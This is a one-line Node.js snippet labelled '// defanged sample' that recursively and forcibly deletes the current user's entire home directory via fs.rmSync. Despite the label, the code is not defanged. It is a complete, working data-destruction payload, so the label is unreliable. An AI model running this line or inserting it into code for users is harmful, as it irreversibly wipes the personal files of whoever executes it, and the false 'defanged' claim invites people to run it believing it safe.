// defanged sample
require('fs').rmSync(require('os').homedir(), { recursive: true, force: true });
